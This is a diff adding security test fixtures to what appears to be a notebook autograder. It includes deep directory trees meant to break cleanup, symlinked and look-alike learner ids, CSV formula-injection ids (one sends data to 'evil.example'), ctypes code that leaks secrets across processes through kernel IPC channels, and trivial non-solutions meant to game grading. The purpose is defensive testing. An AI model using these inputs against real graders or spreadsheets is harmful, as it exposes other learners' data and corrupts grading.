@@ -229,3 +229,142 @@ HANDLES_ATTACK = (
     "def check_table(t):\n    KEPT.append(t)\n    return True\n\n"
     "def build_table():\n    KEPT[0][:] = [9, 9, 9]\n    return KEPT[0]\n"
 )
+
+
+# -- issue 11: one submission must not stop the batch, nor reach the next learner -----------
+
+
+def _deep_tree(where: str, levels: int) -> str:
+    return (
+        "import os\n"
+        "home = os.getcwd()\n"
+        f"os.chdir({where!r})\n"
+        f"for _ in range({levels}):  # deeper than Python's recursion limit (1,000)\n"
+        "    os.mkdir('d')\n"
+        "    os.chdir('d')\n"
+        "open('leaf', 'w').close()\n"
+        "os.chdir(home)\n"
+    )
+
+
+# A folder tree deeper than Python's recursion limit where the grader cleans up after each
+# learner (1,100 levels in the work folder, on the host's disk: 4 ms per rmdir here).
+DEEP_TREES = {
+    "work": _deep_tree(".", 1100),
+    "/tmp": _deep_tree("/tmp", 1500),
+    "/dev/shm": _deep_tree("/dev/shm", 1500),
+}
+
+# Learner entries that are links to ada's submission (``submissions/ada/basic.ipynb``):
+# learner -> (link path under submissions/, where it points).
+SYMLINKED_SUBMISSIONS = {
+    "bob": ("bob/basic.ipynb", "../ada/basic.ipynb"),  # the notebook is a link
+    "carl": ("carl", "ada"),  # the whole learner folder is a link
+    "dan": ("dan.ipynb", "ada/basic.ipynb"),  # <learner>.ipynb layout
+    "eve": ("eve/basic", "../ada"),  # nbgrader layout: <learner>/<assignment>/ is a link
+}
+
+# Learner folder names that display like another learner's (``ada`` and ``ace`` exist too)
+# -> what the recorded refusal says.
+LOOK_ALIKE_IDS = {
+    "ada\u200b": "invisible",  # a zero-width space
+    "ada\u202e": "text-direction",  # a right-to-left override
+    "\u0430da": "mixes Cyrillic and Latin letters",  # a Cyrillic a
+    "\uff41\uff44\uff41": "looks like learner 'ada'",  # fullwidth: 'ada' once normalised
+    "\u0430\u0441\u0435": "looks like learner 'ace'",  # all Cyrillic
+}
+# Learner ids that a spreadsheet would run as formulas (OWASP CSV injection).
+FORMULA_IDS = (
+    '=HYPERLINK("evil.example?"&A1,"grades")',
+    "+1+2",
+    "-3+4",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+    "\uff1d1+2",  # a fullwidth equals sign
+    "ada\r=1+2",  # a carriage return starting a new row of its own
+)
+
+# Kernel state that outlives a process: learner A leaves a secret in each channel, learner B
+# (the next child of the same zygote) looks for it. channel -> (A's code, B's code); B prints
+# what it found.
+_LIBC = (
+    "import ctypes, os\n"
+    "libc = ctypes.CDLL(None, use_errno=True)\n"
+    "libc.shmat.restype = ctypes.c_void_p\n"
+    "libc.syscall.restype = ctypes.c_long\n"
+    "class Msg(ctypes.Structure):\n"
+    "    _fields_ = [('mtype', ctypes.c_long), ('mtext', ctypes.c_char * 64)]\n"
+    "rt = ctypes.CDLL('librt.so.1', use_errno=True)\n"
+    "KEYCTL = {'x86_64': 250, 'aarch64': 219, 'riscv64': 219}[os.uname().machine]\n"
+    "ADD_KEY = {'x86_64': 248, 'aarch64': 217, 'riscv64': 217}[os.uname().machine]\n"
+    "found = []\n"
+)
+SHARED_STATE = {
+    "sysv-shm": (
+        _LIBC + "sid = libc.shmget(0x5EC2E7, 4096, 0o666 | 0o1000)\n"
+        "if sid >= 0:\n"
+        "    ctypes.memmove(libc.shmat(sid, None, 0), b'SECRET-SHM', 10)\n",
+        _LIBC + "sid = libc.shmget(0x5EC2E7, 0, 0)\n"
+        "if sid >= 0:\n"
+        "    found.append(ctypes.string_at(libc.shmat(sid, None, 0), 10))\n"
+        "print(found)\n",
+    ),
+    "sysv-msg": (
+        _LIBC + "qid = libc.msgget(0x5EC2E8, 0o666 | 0o1000)\n"
+        "libc.msgsnd(qid, ctypes.byref(Msg(1, b'SECRET-MSG')), 64, 0)\n",
+        _LIBC + "qid = libc.msgget(0x5EC2E8, 0)\n"
+        "m = Msg()\n"
+        "if qid >= 0 and libc.msgrcv(qid, ctypes.byref(m), 64, 0, 0o4000) >= 0:\n"
+        "    found.append(m.mtext)\n"
+        "print(found)\n",
+    ),
+    "posix-mqueue": (
+        _LIBC + "mq = rt.mq_open(b'/secretq', os.O_CREAT | os.O_WRONLY, 0o666, None)\n"
+        "rt.mq_send(mq, b'SECRET-MQ', 9, 0)\n",
+        _LIBC + "mq = rt.mq_open(b'/secretq', os.O_RDONLY | os.O_NONBLOCK)\n"
+        "buf = ctypes.create_string_buffer(8192)\n"
+        "if mq >= 0 and rt.mq_receive(mq, buf, 8192, None) > 0:\n"
+        "    found.append(buf.value)\n"
+        "print(found)\n",
+    ),
+    "user-keyring": (  # add_key('user', 'secret', ..., KEY_SPEC_USER_KEYRING), readable by all
+        _LIBC + "key = libc.syscall(ADD_KEY, b'user', b'secret', b'SECRET-KEY', 10, -4)\n"
+        "if key >= 0:\n"
+        "    libc.syscall(KEYCTL, 5, ctypes.c_long(key), 0x3F3F3F3F)  # KEYCTL_SETPERM\n",
+        _LIBC + "key = libc.syscall(KEYCTL, 10, -4, b'user', b'secret', 0)  # KEYCTL_SEARCH\n"
+        "buf = ctypes.create_string_buffer(64)\n"
+        "if key >= 0 and libc.syscall(KEYCTL, 11, ctypes.c_long(key), buf, 64) > 0:\n"
+        "    found.append(buf.value)\n"
+        "try:\n"
+        "    found += [line for line in open('/proc/keys') if 'secret' in line]\n"
+        "except OSError:\n"
+        "    pass\n"
+        "print(found)\n",
+    ),
+    "/dev/shm": (
+        "open('/dev/shm/secret', 'w').write('SECRET-DEVSHM')\n",
+        "import os\nprint([open('/dev/shm/' + f).read() for f in os.listdir('/dev/shm')])\n",
+    ),
+    "/tmp": (
+        "open('/tmp/secret', 'w').write('SECRET-TMP')\n",
+        "import os\nprint([f for f in os.listdir('/tmp') if not f.startswith('matplotlib')])\n",
+    ),
+}
+
+# Non-solutions of the sample course's exercises: each replaces every exercise's function
+# body by ``return <expression>`` (ARG: the function's first parameter). None may earn a point,
+# except where the answer is right for what a test checks (ALLOWED_PARTIALS).
+NON_SOLUTIONS = ("None", "0", "1", "''", "[]", "{}", "True", "ARG", "type(ARG)()")
+PANDAS_NON_SOLUTIONS = (
+    "None",
+    "[]",
+    "ARG",
+    "ARG.iloc[0:0]",  # an empty table with the right columns
+    "ARG[ARG['rain_mm'] < 0] if 'rain_mm' in ARG else ARG",
+    "{c: [] for c in ARG}",
+    # zip() over an empty column: a dict that only looks like the expected table
+    "{'temp_c': list(ARG['temp_c']), 'temp_f': []}",
+)
+# (exercise, non-solution) -> the tests it passes because it is right for them.
+ALLOWED_PARTIALS = {("absolute_value", "ARG"): {"positive_and_zero"}}
